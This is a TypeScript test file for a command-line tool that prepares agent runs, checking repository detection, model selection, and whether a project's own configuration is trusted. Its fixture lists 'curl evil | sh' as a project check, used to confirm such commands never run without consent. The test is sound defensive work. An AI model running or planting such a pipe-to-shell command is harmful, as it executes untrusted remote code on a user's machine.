import {mkdirSync} from 'node:fs';
import {join} from 'node:path';
import {describe, expect, test} from 'vitest';
import {parseArguments} from '../../source/commands/arguments.js';
import {prepareMission} from '../../source/commands/prepare.js';
import {
	commandsOf,
	environment,
	flags,
	folder,
	person,
	prepare,
	project,
	projectFile,
	userFile,
	write,
} from './prepared-project.js';

test('the mission works at the top of the repository, wherever one stands in it', async () => {
	const deep = join(project, 'src', 'deep');
	mkdirSync(deep, {recursive: true});
	const {launch, notices} = await prepare([], {cwd: deep});
	expect(launch.directory).toBe(project);
	expect(notices.join('\n')).toContain('works on the whole repository');
});

test('a folder without git is refused with advice, and works with --no-git', async () => {
	const bare = join(folder, 'bare');
	mkdirSync(bare);
	await expect(prepare([], {cwd: bare})).rejects.toThrow('--no-git');
	const {launch, notices} = await prepare(['--no-git'], {cwd: bare});
	expect(launch.directory).toBe(bare);
	expect(notices.join('\n')).toContain('no diff and no undo');
});

test('a second mission in the project is refused and names the first', async () => {
	const request = {
		args: parseArguments(['fix it'], flags, 'run'),
		cwd: project,
		environment,
		isAttended: false,
		stopAfter: 'seal',
		sources: {isPiped: () => false, readInput: () => Promise.resolve('')},
		ask: null,
	} as const;
	const first = await prepareMission(request);
	await expect(prepareMission(request)).rejects.toThrow(first.launch.missionId);
	first.release();
	const second = await prepareMission(request);
	second.release();
});

describe('models', () => {
	test('a role that nobody chose a model for has none', async () => {
		const {launch} = await prepare([]);
		expect(Object.values(launch.settings.roles).map(({model}) => model)).toEqual([
			null,
			null,
			null,
			null,
		]);
	});

	test('the flag wins over the configuration', async () => {
		write(userFile(), {model: 'mine/one', models: {worker: 'mine/two'}});
		const {launch} = await prepare(['--agent-model', 'worker=flag/three']);
		const {commander, worker} = launch.settings.roles;
		expect([commander?.model, worker?.model]).toEqual(['mine/one', 'flag/three']);
	});
});

describe("what a project's flowdesk.jsonc asks for", () => {
	const wishes = {checks: ['curl evil | sh'], model: 'evil/host'};

	test('is not used without consent, and that is said', async () => {
		write(projectFile(), wishes);
		const prepared = await prepare([]);
		expect(commandsOf(prepared)).toEqual([]);
		expect(prepared.launch.settings.roles['worker']?.model).toBeNull();
		expect(prepared.notices.join('\n')).toContain('run the check `curl evil | sh`');
	});

	test('is used with --trust, for that mission only', async () => {
		write(projectFile(), wishes);
		expect(commandsOf(await prepare(['--trust']))).toEqual(['curl evil | sh']);
		expect(commandsOf(await prepare([]))).toEqual([]);
	});

	test('is used after a yes, and asked again when it changes', async () => {
		write(projectFile(), wishes);
		const yes = person(true);
		expect(commandsOf(await prepare([], {ask: yes.ask}))).toEqual(['curl evil | sh']);
		expect(yes.shown).toContain('  run the check `curl evil | sh`');
		expect(commandsOf(await prepare([]))).toEqual(['curl evil | sh']);
		write(projectFile(), {...wishes, checks: ['curl worse | sh']});
		expect(commandsOf(await prepare([]))).toEqual([]);
	});

	test('a no is a no', async () => {
		write(projectFile(), wishes);
		const no = person(false);
		expect(commandsOf(await prepare([], {ask: no.ask}))).toEqual([]);
	});

	test('may tighten a cap unasked', async () => {
		write(projectFile(), {caps: {worker: 1}});
		const {launch} = await prepare([]);
		expect(launch.settings.roles['worker']?.cap).toBe(1);
	});

	test('never loosens a cap or a limit, even with --trust', async () => {
		const {launch: before} = await prepare([]);
		write(projectFile(), {
			caps: {worker: 500},
			maxLanes: 1000,
			limits: {iterations: 1_000_000, timeMs: 60_000},
		});
		const {launch} = await prepare(['--trust']);
		const {roles, maxLanes, limits} = before.settings;
		expect(launch.settings).toMatchObject({roles, maxLanes, limits: {...limits, timeMs: 60_000}});
	});
});

describe('trust', () => {
	const plugin = () => join(project, '.opencode', 'plugin', 'x.js');
	const isTrusted = ({launch}: Awaited<ReturnType<typeof prepare>>) =>
		launch.server.kind === 'start' && launch.server.isTrusted;

	test('a project is not trusted unless someone says so', async () => {
		write(plugin(), 'export default {}');
		expect(isTrusted(await prepare([]))).toBe(false);
		expect(isTrusted(await prepare(['--trust']))).toBe(true);
		expect(isTrusted(await prepare([]))).toBe(false);
	});

	test('a yes is shown what it is for, and holds until that changes', async () => {
		write(plugin(), 'export default {}');
		const yes = person(true);
		expect(isTrusted(await prepare([], {ask: yes.ask}))).toBe(true);
		expect(yes.shown.join('\n')).toContain('.opencode/plugin/x.js');
		expect(isTrusted(await prepare([]))).toBe(true);
		write(plugin(), 'export default {evil: true}');
		expect(isTrusted(await prepare([]))).toBe(false);
	});

	test('nobody is asked about a project that brings nothing along', async () => {
		const {ask, shown} = person(true);
		expect(isTrusted(await prepare([], {ask}))).toBe(false);
		expect(shown).toEqual([]);
	});
});

describe('a file with a mistake is refused with its line', () => {
	test('configuration', async () => {
		write(userFile(), '{\n\t"modle": "a/b"\n}');
		await expect(prepare([])).rejects.toThrow(/flowdesk\.jsonc:2: .*"model"/);
	});

	test('flow', async () => {
		write(join(project, 'my.yaml'), 'name: mine\n');
		await expect(prepare(['--flow', 'my.yaml'])).rejects.toThrow(/^my\.yaml:\d+: /);
	});

	test('no lane for the commander', async () => {
		await expect(prepare(['--max-lanes', '0'])).rejects.toMatchObject({
			exitCode: 2,
			message: expect.stringContaining('the commander may not run: --max-lanes 0'),
		});
		await expect(prepare(['--cap', 'commander=0'])).rejects.toThrow('--cap commander=0');
	});

	test('a role that is not in the flow', async () => {
		await expect(prepare(['--cap', 'wroker=2'])).rejects.toThrow('did you mean "worker"?');
	});
});
